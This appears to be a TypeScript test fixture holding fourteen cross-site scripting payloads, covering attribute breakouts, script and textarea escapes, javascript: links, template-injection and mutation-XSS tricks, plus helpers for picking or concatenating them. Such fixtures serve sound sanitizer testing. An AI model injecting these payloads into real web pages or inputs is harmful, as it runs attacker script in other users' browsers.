/** Ways to run a script where a text is taken for markup: as an element, out of an attribute, out of a script, in an address. */
export const VECTORS = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(2)>',
  `'-alert(3)-'`,
  '</script><script>alert(4)</script>',
  '</title><script>alert(5)</script>',
  '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<a href="javascript:alert(7)">x</a>',
  '" autofocus onfocus=alert(8) x="',
  '<details open ontoggle=alert(9)>x</details>',
  '{{constructor.constructor("alert(10)")()}}',
  '</textarea><img src=x onerror=alert(11)>',
  '\u2028alert(12)//',
  '<!--<img src="--><img src=x onerror=alert(13)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>',
] as const;

export const vector = (nth: number): string => VECTORS[nth % VECTORS.length] ?? '';
/** All of them at once, for long texts. */
export const ALL = VECTORS.map((text) => `<p>${text}</p>`).join('\n');
